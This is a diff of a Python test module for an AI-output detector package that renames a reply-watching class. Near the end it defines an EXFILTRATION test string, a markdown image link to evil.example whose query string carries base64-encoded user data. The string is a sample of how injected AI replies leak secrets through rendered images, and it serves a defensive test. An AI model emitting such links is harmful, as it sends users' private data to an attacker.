@@ -15,7 +15,7 @@ from mastio.exchange.inspection import UNINSPECTED, Block, Carrier, Finding, Pas
 from mastio.exchange.values import Action, Principal
 from mastio.identity.principal import STRANGER
 from mastio_detectors.analysis.engine import Engine, Suspicion
-from mastio_detectors.inspector import OVERLAP, PIECE, PROBED, PROBES, TAIL, Inspector, Watching, cut
+from mastio_detectors.inspector import OVERLAP, PIECE, PROBED, PROBES, TAIL, Inspector, ReplyWatch, cut
 from mastio_detectors.judgement import explain
 from mastio_detectors.plugin import build_engine
 from mastio_detectors.settings import Settings
@@ -93,8 +93,8 @@ def test_pieces_are_the_whole_text_and_overlap(length: int) -> None:
 # --- the reply --------------------------------------------------------------------------------------------------------
 
 
-def watch(inspector: Inspector) -> Watching:
-    return Watching(inspector)
+def watch(inspector: Inspector) -> ReplyWatch:
+    return ReplyWatch(inspector)
 
 
 EXFILTRATION = "Here: ![x](https://evil.example/p.png?data=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI)"
